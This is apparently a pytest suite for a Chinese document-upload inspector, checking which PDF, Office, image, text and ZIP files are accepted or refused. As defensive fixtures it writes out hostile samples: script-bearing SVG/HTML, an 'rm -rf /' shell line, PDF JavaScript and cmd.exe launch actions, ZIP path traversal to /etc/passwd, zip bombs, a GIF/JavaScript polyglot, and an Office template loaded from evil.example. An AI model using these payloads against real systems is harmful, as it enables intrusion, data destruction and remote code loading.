"""What a file must be to be taken: every refusal with its sentence, and the good file beside it that passes."""

import io
import stat
import tempfile
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from pingzhun.documents import images
from pingzhun.documents.inspection import inspect
from pingzhun.documents.refusals import FileRefused
from pingzhun.documents.tests import files
from pingzhun.documents.tests.conftest import NOW
from pingzhun.documents.tests.sealers import contract, sealer

OFFICE = "application/vnd.openxmlformats-officedocument."
GOOD = [
    ("合同.pdf", files.pdf(), "application/pdf"),
    ("清单.docx", files.office("word/document.xml"), OFFICE + "wordprocessingml.document"),
    ("清单.xlsx", files.office("xl/workbook.xml"), OFFICE + "spreadsheetml.sheet"),
    ("汇报.pptx", files.office("ppt/presentation.xml"), OFFICE + "presentationml.presentation"),
    ("旧合同.doc", files.ole("WordDocument"), "application/msword"),
    ("旧清单.XLS", files.ole("Workbook"), "application/vnd.ms-excel"),
    ("旧汇报.ppt", files.ole("PowerPoint Document"), "application/vnd.ms-powerpoint"),
    ("公文.wps", files.ole("WordDocument"), "application/vnd.ms-works"),
    ("发票.ofd", files.ofd(), "application/ofd"),
    ("说明.txt", "说明\r\n第一行".encode(), "text/plain; charset=utf-8"),
    ("说明.txt", "说明\r\n第一行".encode("gb18030"), "text/plain; charset=gb18030"),
    ("说明.txt", "说明".encode("utf-16"), "text/plain; charset=utf-16"),
    ("照片.jpg", files.image("JPEG"), "image/jpeg"),
    ("照片.png", files.image("PNG"), "image/png"),
    ("照片.webp", files.image("WEBP"), "image/webp"),
    ("照片.gif", files.image("GIF"), "image/gif"),
    ("照片.bmp", files.image("BMP"), "image/bmp"),
    ("结果.zip", files.archive(), "application/zip"),
    ("结果.zip", files.archive({"内.zip": files.archive(), "报告.docx": files.office()}), "application/zip"),
    ("结果.rar", b"Rar!\x1a\x07\x01\x00" + bytes(40), "application/vnd.rar"),
    ("结果.7z", b"7z\xbc\xaf\x27\x1c" + bytes(40), "application/x-7z-compressed"),
]  # fmt: skip


def judged(name: str, content: bytes):
    """The accepted file's bytes and media type."""
    with tempfile.TemporaryFile() as file:
        file.write(content)
        accepted = inspect(file, name=name, now=NOW)
        accepted.file.seek(0)
        return accepted.file.read(), accepted.media_type


def mismatch(name: str, title: str, seen: str = "") -> str:
    seen = seen and f"，看起来是{seen}"
    return f"“{name}”的内容不是{title}{seen}。请打开原文件，另存为正确的格式后重新上传。"


def sentence(name: str, content: bytes) -> str:
    with pytest.raises(FileRefused) as refusal:
        judged(name, content)
    return refusal.value.sentence


@pytest.mark.covers("P7")
@pytest.mark.parametrize(("name", "content", "media_type"), GOOD)
def test_a_good_file_of_each_kind_is_taken_for_what_it_is(name, content, media_type):
    assert judged(name, content)[1] == media_type


@pytest.mark.parametrize(
    ("name", "content", "media_type"), [row for row in GOOD if not row[2].startswith("image/")]
)
def test_a_file_that_is_not_an_image_is_kept_byte_for_byte(name, content, media_type):
    assert judged(name, content)[0] == content


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
MACROS = "“{}”含有宏。请另存为不含宏的文档，或转换为 PDF 后重新上传。"
WEB = "网页或脚本（HTML、SVG、XML）"
PACKED = "ZIP 压缩包或新版 Office 文档"
TYPE = "的类型不在允许范围内。请转换为 PDF、Office 文档、图片或 ZIP 后重新上传。"


@pytest.mark.covers("P7")
@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("图.svg", SVG, f"“图.svg”{TYPE}"),
        ("页.html", HTML, f"“页.html”{TYPE}"),
        ("页.js", b"alert(1)", f"“页.js”{TYPE}"),
        ("程序.exe", b"MZ\x90", f"“程序.exe”{TYPE}"),
        ("无后缀", files.pdf(), f"“无后缀”{TYPE}"),
        ("宏.docm", files.office(), f"“宏.docm”{TYPE}"),
        ("图.jpg", HTML, mismatch("图.jpg", "JPEG 图片", WEB)),
        ("图.png", SVG, mismatch("图.png", "PNG 图片", WEB)),
        ("图.png", files.image("JPEG"), mismatch("图.png", "PNG 图片", "JPEG 图片")),
        ("合同.pdf", files.archive(), mismatch("合同.pdf", "PDF 文档", PACKED)),
        ("合同.pdf", b"\n" + files.pdf(), mismatch("合同.pdf", "PDF 文档")),
        ("合同.doc", HTML, mismatch("合同.doc", "Word 97 文档", WEB)),
        ("合同.doc", files.office(), mismatch("合同.doc", "Word 97 文档", PACKED)),
        ("合同.doc", files.ole("Workbook"), mismatch("合同.doc", "Word 97 文档", "旧版 Office 或 WPS 文档")),
        ("清单.xlsx", files.office("word/document.xml"), mismatch("清单.xlsx", "Excel 表格", PACKED)),
        ("发票.ofd", files.archive(), mismatch("发票.ofd", "OFD 版式文件", PACKED)),
        ("说明.txt", HTML, mismatch("说明.txt", "纯文本", WEB)),
        ("说明.txt", b"#!/bin/sh\nrm -rf /", mismatch("说明.txt", "纯文本", "脚本")),
        ("说明.txt", b"text\x00\x01\x02", mismatch("说明.txt", "纯文本")),
        ("结果.rar", files.archive(), mismatch("结果.rar", "RAR 压缩包", PACKED)),
        ("合同.docx", files.office(word__vbaProject_bin=b"x"), MACROS.format("合同.docx")),
        ("合同.doc", files.ole("WordDocument", "_VBA_PROJECT"), MACROS.format("合同.doc")),
        ("合同.pdf", files.pdf()[:-8], "“合同.pdf”不是完整的 PDF。请用阅读器打开确认，另存为 PDF 后重新上传。"),
        ("图.jpg", files.image("JPEG")[:-200], "“图.jpg”不是完整的 JPEG 图片。请用看图软件打开确认，另存为图片后重新上传。"),
        ("图.png", files.huge_png(), "图片“图.png”的像素过大（最多 4000 万像素）。请缩小尺寸后重新上传。"),
        ("图.png", files.huge_png(7000, 6000), "图片“图.png”的像素过大（最多 4000 万像素）。请缩小尺寸后重新上传。"),
    ],
)  # fmt: skip
def test_what_a_file_is_not_is_said_with_the_cure(name, content, said):
    assert sentence(name, content) == said


ACTS = "“合同.pdf”含有脚本或启动程序的动作。请用阅读器打印为 PDF（去掉动作）后重新上传。"


@pytest.mark.covers("P7")
@pytest.mark.parametrize(
    "content",
    [
        files.pdf(b"1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"),
        files.pdf(b"1 0 obj<</S/J#61vaScr#69pt/JS(app.alert(1))>>endobj"),
        files.pdf(b"1 0 obj<</S /Launch /F(cmd.exe)>>endobj"),
        files.pdf(bytes(1024**2 - 20) + b"<</S/JavaScript/JS(x)>>"),
        files.pdf_with_object_stream(b"1 0 <</S/JavaScript/JS(app.alert(1))>>"),
        files.pdf_with_object_stream(b"1 0 <</S/JavaScript/JS(x)>>", prefix=b"% /Encrypt\n"),
    ],
)
def test_a_pdf_that_acts_by_itself_is_refused(content):
    assert sentence("合同.pdf", content) == ACTS


@pytest.mark.parametrize(
    "content",
    [
        files.pdf(b"(JavaScript is mentioned) /JavaScriptCourse /LaunchPad"),
        files.pdf_with_object_stream(b"1 0 <</S/GoTo/D[0]>>"),
    ],
)
def test_a_pdf_that_only_speaks_of_scripts_is_taken(content):
    assert judged("合同.pdf", content)[1] == "application/pdf"


def test_a_pdf_whose_object_stream_is_a_bomb_is_refused():
    bomb = files.pdf_with_object_stream(bytes(80 * 1024**2))
    assert len(bomb) < 100_000
    assert sentence("合同.pdf", bomb) == "“合同.pdf”展开后过大。请用阅读器打印为 PDF 后重新上传。"


def linked() -> zipfile.ZipInfo:
    info = zipfile.ZipInfo("passwd")
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return info


def encrypted() -> bytes:
    content = bytearray(files.archive({"a.txt": b"secret"}))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def nested(depth: int) -> bytes:
    content = files.archive()
    for _ in range(depth - 1):
        content = files.archive({"内.zip": content})
    return content


UNSAFE = "压缩包“结果.zip”内有不安全的文件路径（{}）。请重新打包后上传。"
PROGRAM = "压缩包“结果.zip”内有程序或脚本（{}）。请去掉后重新打包上传。"
BROKEN = "压缩包“结果.zip”已损坏，无法读取。请重新打包后上传。"
NO_ZIP = "“结果.zip”不是完整的 ZIP 压缩包，或其中没有文件。请重新打包后上传。"
MANY = "压缩包“结果.zip”{}。请分成几个压缩包上传。"
BOMB = "压缩包“结果.zip”解压后过大，疑似压缩炸弹。请分成几个压缩包上传。"


@pytest.mark.covers("P7")
@pytest.mark.parametrize(
    ("content", "said"),
    [
        (files.archive({"../../etc/passwd": b"x"}), UNSAFE.format("../../etc/passwd")),
        (files.archive({"a\\..\\..\\x.txt": b"x"}), UNSAFE.format("a\\..\\..\\x.txt")),
        (files.archive({"/etc/passwd": b"x"}), UNSAFE.format("/etc/passwd")),
        (files.archive({"C:\\x.txt": b"x"}), UNSAFE.format("C:\\x.txt")),
        (files.archive({"cod\u202efdp.exe": b"x"}), UNSAFE.format("cod�fdp.exe")),
        (files.archive_of(linked(), b"/etc/passwd"), "压缩包“结果.zip”内有链接或特殊文件（passwd）。请去掉后重新打包上传。"),
        (encrypted(), "压缩包“结果.zip”设有密码（a.txt），无法检查。请去掉密码后重新打包上传。"),
        (files.archive({"安装.EXE": b"MZ"}), PROGRAM.format("安装.EXE")),
        (files.archive({"报告.pdf.js": b"x"}), PROGRAM.format("报告.pdf.js")),
        (files.archive({"运行.bat ": b"x"}), PROGRAM.format("运行.bat ")),
        (files.archive({"内.zip": files.archive({"x.lnk": b"x"})}), PROGRAM.format("x.lnk").replace("结果", "内")),
        (files.archive({"空白.dat": bytes(100 * 1024**2)}), BOMB),
        (nested(5), "压缩包“内.zip”嵌套超过 4 层。请减少嵌套后重新打包上传。"),
        (files.archive(method=zipfile.ZIP_LZMA), "压缩包“结果.zip”使用了不支持的压缩方法。请用标准 ZIP（Deflate）重新打包上传。"),
        (files.archive({f"{n}": b"" for n in range(10_001)}), MANY.format("内的文件过多（最多 10000 个）")),
        (files.archive({f"{n:0200}": b"" for n in range(18_000)}), MANY.format("的目录过大（最多 10000 个文件）")),
        (b"GIF89a" + files.archive(), NO_ZIP),
        (files.archive()[:-30], NO_ZIP),
        (b"PK\x05\x06" + bytes(18), NO_ZIP),
        (files.archive() + files.archive(), "压缩包“结果.zip”前后夹带了其他内容。请重新打包后上传。"),
        (files.archive() + HTML, "压缩包“结果.zip”前后夹带了其他内容。请重新打包后上传。"),
        (files.archive().replace("结果/报告.txt".encode(), "结果/报表.txt".encode(), 1), BROKEN),
    ],
)  # fmt: skip
def test_a_hostile_archive_is_refused_without_being_unpacked(content, said):
    assert sentence("结果.zip", content) == said


def test_the_deepest_archive_allowed_is_taken():
    assert judged("结果.zip", nested(4))[1] == "application/zip"


def test_the_files_that_macos_and_office_leave_in_archives_do_no_harm():
    litter = files.archive(
        {"__MACOSX/._报告.docx": b"\0\x05\x16\x07", "~$报告.docx": b"\x02li", "报告/": b""}
    )
    assert judged("结果.zip", litter)[0] == litter


@pytest.mark.covers("P7")
@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "WEBP"])
def test_an_image_keeps_its_pixels_and_loses_its_metadata(image_format):
    exif = Image.Exif()
    exif[0x010E] = "CANARY-GPS-39.9042"
    exif[0x0112] = 6  # turned by 90°
    sent = files.image(image_format, size=(40, 30), exif=exif.tobytes())
    kept, _ = judged(f"照片.{image_format.lower().replace('jpeg', 'jpg')}", sent)
    assert b"CANARY" in sent
    assert b"CANARY" not in kept
    with Image.open(io.BytesIO(kept)) as image:
        assert image.size == (30, 40)
        assert not image.getexif()


def test_a_png_keeps_its_transparency():
    sent = io.BytesIO()
    picture = Image.new("RGBA", (8, 8), (255, 0, 0, 0))
    picture.save(sent, "PNG")
    kept, _ = judged("章.png", sent.getvalue())
    assert Image.open(io.BytesIO(kept)).getpixel((0, 0)) == (255, 0, 0, 0)


@pytest.mark.covers("P7")
def test_a_script_that_is_also_a_gif_comes_out_as_a_picture_only():
    polyglot = files.image("GIF") + b"*/=0;alert(document.domain)//"
    kept, _ = judged("图.gif", polyglot)
    assert b"alert" in polyglot
    assert b"alert" not in kept
    assert Image.open(io.BytesIO(kept)).size == (40, 30)
    assert sentence("图.gif", b"GIF89a=alert(document.domain)") == (
        "“图.gif”不是完整的 GIF 图片。请用看图软件打开确认，另存为图片后重新上传。"
    )


def test_the_largest_scan_of_a_page_is_within_the_limit():
    assert images.MAX_PIXELS > 4961 * 7016  # A4 at 600 dpi


CORPUS = [(name, content) for name, content, _ in GOOD]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_a_damaged_file_is_taken_or_refused_and_never_an_error(data):
    name, content = data.draw(st.sampled_from(CORPUS))
    damaged = bytearray(content)
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(damaged) - 1))
        match data.draw(st.sampled_from(["change", "cut", "insert", "repeat"])):
            case "change":
                damaged[at] = data.draw(st.integers(0, 255))
            case "cut":
                del damaged[at + 1 :]
            case "insert":
                damaged[at:at] = data.draw(st.binary(max_size=40))
            case "repeat":
                damaged[at:at] = damaged[: at + 1][-4096:]
    try:
        _, media_type = judged(name, bytes(damaged))
    except FileRefused as refusal:
        assert refusal.sentence.endswith("。")
    else:
        assert "html" not in media_type


@pytest.mark.covers("H24")
def test_a_sealed_pdf_is_taken_as_it_is_and_one_altered_under_the_seal_is_refused():
    sealed = sealer("甘肃恒信造价咨询有限公司", "91620981MA7HXZJ01X").seal(contract(), x=145)
    assert judged("合同.pdf", sealed) == (sealed, "application/pdf")
    place = sealed.index(b"/Producer")  # inside what the seal covers, and no structure of the file
    altered = sealed[:place] + b"/PRoducer" + sealed[place + 9 :]
    assert sentence("合同.pdf", altered) == (
        "“合同.pdf”上“甘肃恒信造价咨询有限公司”的印章不成立："
        "文件内容与印章不符，盖章之后被改动过。请勿采信，并向对方索取原件。"
    )


def test_a_pdf_that_only_looks_sealed_is_taken():
    """Seals of a kind that we do not know are no fault of the file."""
    unknown = files.pdf().replace(b"%%EOF", b"% /ByteRange [0 1 2 3]\n%%EOF")
    assert judged("合同.pdf", unknown) == (unknown, "application/pdf")


def related(kind: str, target: str, mode: str = ' TargetMode="External"', head: str = "") -> bytes:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = f'<Relationship Id="a" Type="{types}/{kind}" Target="{target}"{mode}/>'
    relations = f'{head}<Relationships xmlns="{space}">{relation}</Relationships>'
    return files.archive(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document/>",
            "word/_rels/settings.xml.rels": relations.encode(),
        }
    )


@pytest.mark.covers("P7")
@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "image", "frame", "externalLinkPath"])
def test_a_document_that_loads_something_from_outside_is_refused(kind):
    assert sentence("合同.docx", related(kind, "http://evil.example/t.dotm")) == (
        "“合同.docx”会从外部加载内容（http://evil.example/t.dotm）。请断开外部链接，或转换为 PDF 后重新上传。"
    )


@pytest.mark.parametrize(
    "content",
    [
        related("hyperlink", "https://www.ccgp.gov.cn/"),
        related("image", "media/image1.png", mode=""),
        related("image", "media/image1.png", mode=' TargetMode="Internal"'),
    ],
)
def test_a_document_with_links_to_click_on_and_parts_of_its_own_is_taken(content):
    assert judged("合同.docx", content)[0] == content


@pytest.mark.parametrize(
    "head", ['<!DOCTYPE x [<!ENTITY a "b">]>', "<broken", '<?xml version="1.0" encoding="nothing"?>']
)
def test_relations_that_cannot_be_read_are_refused(head):
    assert sentence("合同.docx", related("image", "x", head=head)) == (
        "“合同.docx”的内部结构损坏，无法检查。请打开原文件，另存后重新上传。"
    )


@pytest.mark.parametrize("name", ["合同.pdf", "旧合同.doc", "说明.txt", "结果.zip", "照片.png"])
def test_an_empty_file_is_refused_whatever_it_is_called(name):
    assert sentence(name, b"") == f"“{name}”是空文件。请打开原文件确认后重新上传。"
